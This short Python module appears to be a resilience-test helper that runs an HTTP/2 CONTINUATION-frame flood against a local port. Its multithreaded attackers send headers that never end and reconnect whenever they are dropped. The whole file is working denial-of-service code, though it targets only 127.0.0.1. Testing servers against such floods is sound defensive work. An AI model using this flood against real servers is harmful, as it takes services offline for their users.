"""What somebody without a ticket may do to a port: HTTP/2 headers that never end."""

import contextlib
import socket
import ssl
import struct
import threading
import time

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"


def frame(kind: int, flags: int, stream: int, payload: bytes) -> bytes:
    return struct.pack(">I", len(payload))[1:] + bytes((kind, flags)) + struct.pack(">I", stream) + payload


def continuation_flood(port: int, until: float) -> int:
    """Send headers that never end until the connection is closed or the time is up; bytes that were sent."""
    context = ssl.create_default_context()
    context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
    context.set_alpn_protocols(["h2"])
    sent = 0
    fields = b"\x00\x01a\x01b" * 3276  # whole fields, each below every limit
    with (
        contextlib.suppress(OSError),
        socket.create_connection(("127.0.0.1", port), 5) as plain,
        context.wrap_socket(plain) as connection,
    ):
        connection.settimeout(5)
        connection.sendall(PREFACE + frame(4, 0, 0, b"") + frame(1, 0, 1, b"\x82\x86\x84"))
        more = frame(9, 0, 1, fields)
        while time.monotonic() < until:
            connection.sendall(more)
            sent += len(more)
    return sent


def flood(port: int, connections: int, seconds: float) -> int:
    """As many attackers, who come back whenever they are thrown out; bytes they sent."""
    until, sent = time.monotonic() + seconds, []

    def attack() -> None:
        while time.monotonic() < until:
            sent.append(continuation_flood(port, until))
            time.sleep(0.05)

    threads = [threading.Thread(target=attack, daemon=True) for _ in range(connections)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join(seconds + 10)
    return sum(sent)
